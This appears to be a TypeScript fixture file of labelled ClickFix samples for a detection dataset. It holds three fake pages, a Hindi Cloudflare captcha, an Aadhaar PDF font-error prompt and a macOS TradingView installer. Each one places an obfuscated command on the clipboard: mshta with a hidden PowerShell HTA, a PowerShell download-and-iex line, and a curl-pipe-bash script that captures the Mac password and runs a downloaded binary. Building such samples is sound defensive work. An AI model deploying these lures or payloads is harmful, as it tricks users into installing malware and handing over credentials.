import { type Entry } from '../entry.js';
import { doc, b64, charCodes, chunked, reversed, textPayload } from '../parts/xa-kit.js';

/**
 * ClickFix pages: fake human checks and "fix it" prompts that put a command on the clipboard and walk the
 * visitor through Win+R / PowerShell / Terminal — in Hindi, Marathi and English, on compromised job portals,
 * streaming sites, document viewers and interview links.
 */
export const entries: Entry[] = [
{
  id: 'xa-clickfix-cloudflare-hindi-mshta',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://sarkarinaukri-result2025.in/verify/',
  body: doc({
    title: 'Just a moment...',
    lang: 'hi',
    css: `body{margin:0;font-family:-apple-system,'Segoe UI',Arial;background:#fff;color:#313131}.m{max-width:640px;margin:80px auto;padding:0 20px}h1{font-size:30px;font-weight:500}.bx{border:1px solid #e0e0e0;background:#fafafa;width:300px;padding:14px;display:flex;align-items:center;gap:12px;border-radius:4px}.bx input{width:26px;height:26px}.st{display:none;border:1px solid #ddd;padding:16px;margin-top:16px;border-radius:6px;background:#fff;box-shadow:0 4px 18px #0002}.st ol li{margin:10px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:2px 6px}.ft{font-size:12px;color:#666;margin-top:60px;border-top:1px solid #eee;padding-top:10px}`,
    body: `<div class="m"><h1>sarkarinaukri-result2025.in</h1><p>जारी रखने से पहले पुष्टि करें कि आप इंसान हैं। / Verify you are human by completing the action below.</p>
<div class="bx"><input type="checkbox" id="cb"><label for="cb">मैं रोबोट नहीं हूँ</label><span style="margin-left:auto;font-size:10px;color:#888">Cloudflare</span></div>
<div class="st" id="st"><b>सत्यापन के चरण (Verification steps)</b><ol><li><kbd>Windows</kbd> + <kbd>R</kbd> दबाएँ</li><li><kbd>CTRL</kbd> + <kbd>V</kbd> दबाएँ (सत्यापन कोड पेस्ट करें)</li><li><kbd>Enter</kbd> दबाएँ</li></ol><p style="font-size:13px;color:#555">आपको दिखेगा: "✅ I am not a robot – reCAPTCHA Verification ID: 7741"</p></div>
<div class="ft">Ray ID: 8e21fa0c7b14d3a2 · Performance &amp; security by Cloudflare</div></div>
<script>
var c=String.fromCharCode(${charCodes('mshta https://sarkarinaukri-result2025.in/verify/cf.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 7741')});
cb.addEventListener('click',function(){navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});st.style.display='block'});
</script>`,
  }),
  routes: {
    'sarkarinaukri-result2025.in/verify/cf.hta': textPayload(
      `<html><head><hta:application showintaskbar="no" windowstate="minimize"/><script language="jscript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -nop -w hidden -c \\"$b=(iwr 'https://sarkarinaukri-result2025.in/verify/l.txt' -useb).Content;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\\"",0);window.close();</script></head><body></body></html>`,
      'application/hta',
    ),
  },
},
{
  id: 'xa-clickfix-aadhaar-pdf-viewer-font-fix',
  label: 'clickfix',
  kind: 'clickfix-fix-error',
  url: 'https://docs-viewer-aadhaar.pages.dev/view?id=eAadhaar_8841',
  body: doc({
    title: 'eAadhaar_8841.pdf – Online Viewer',
    css: `body{margin:0;font-family:'Segoe UI',Arial;background:#525659}.tb{background:#323639;color:#fff;padding:10px 16px;font-size:14px}.pg{width:600px;height:760px;margin:20px auto;background:#fff;filter:blur(4px)}.err{position:fixed;top:120px;left:50%;transform:translateX(-50%);width:440px;background:#fff;border-radius:6px;box-shadow:0 8px 30px #000a;padding:20px}.err h3{margin-top:0;color:#c62828}.err button{background:#0067b8;color:#fff;border:0;padding:10px 18px;border-radius:3px}code{background:#f1f1f1;padding:2px 4px}`,
    body: `<div class="tb">📄 eAadhaar_8841.pdf</div><div class="pg"></div>
<div class="err"><h3>⚠ Font rendering error</h3><p>This document uses the "Aadhaar Secure Font" which is not installed on your computer. The content cannot be displayed correctly.</p><p><b>How to fix:</b><br>1. Click <b>Copy fix</b><br>2. Right-click the Start button and open <b>Windows PowerShell (Admin)</b> / <b>Terminal</b><br>3. Right-click inside the window to paste and press <b>Enter</b></p><button id="fx">Copy fix</button> <span id="ok" style="color:green;display:none">Copied! Now paste in PowerShell.</span></div>
<script>
var s=${chunked(reversed("powershell -ep bypass -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://fontfix-cdn.pages.dev/install-font.ps1')\""), 9)};
fx.onclick=function(){navigator.clipboard.writeText(s.split('').reverse().join('')).then(function(){ok.style.display='inline'})};
</script>`,
  }),
},
{
  id: 'xa-clickfix-macos-terminal-tradingview-pro',
  label: 'clickfix',
  kind: 'clickfix-macos-terminal',
  url: 'https://tradingview-desktop-pro.app/mac/install',
  body: doc({
    title: 'TradingView Desktop Pro for macOS – Free Premium',
    css: `body{margin:0;font-family:-apple-system,Helvetica,Arial;background:#131722;color:#d1d4dc}.w{max-width:680px;margin:50px auto;padding:0 20px}h1{color:#fff}.t{background:#000;border-radius:8px;padding:14px;font-family:Menlo,monospace;font-size:13px;color:#9be7a4;word-break:break-all;position:relative}.c{position:absolute;top:8px;right:8px;background:#2962ff;color:#fff;border:0;padding:6px 12px;border-radius:4px}ol li{margin:8px 0}`,
    body: `<div class="w"><h1>TradingView Desktop Pro (macOS)</h1><p>Free Premium features for Indian traders: Nifty/BankNifty options chain, unlimited indicators, bar replay. Shared by the VIP Option Trading Telegram group.</p><ol><li>Open <b>Terminal</b> (press ⌘ + Space, type "Terminal")</li><li>Paste the install command below and press Return</li><li>Enter your Mac password when asked (required to install the app)</li></ol>
<div class="t"><button class="c" id="cc">Copy</button><span id="cm"></span></div></div>
<script>
var enc='${b64("curl -fsSL https://tradingview-desktop-pro.app/mac/i.sh | bash")}';cm.textContent='/bin/bash -c "$(echo '+enc+' | base64 -d)"';
cc.onclick=function(){navigator.clipboard.writeText(cm.textContent);cc.textContent='Copied'};
</script>`,
  }),
  routes: {
    'tradingview-desktop-pro.app/mac/i.sh': textPayload(`#!/bin/bash
u="$(whoami)";read -s -p "Password: " pw;echo
echo "$pw" | sudo -S -v 2>/dev/null
curl -s -o /tmp/tvpro https://tradingview-desktop-pro.app/mac/tvpro.bin && xattr -c /tmp/tvpro && chmod +x /tmp/tvpro && /tmp/tvpro "$pw" &`, 'text/x-shellscript'),
  },
},
];
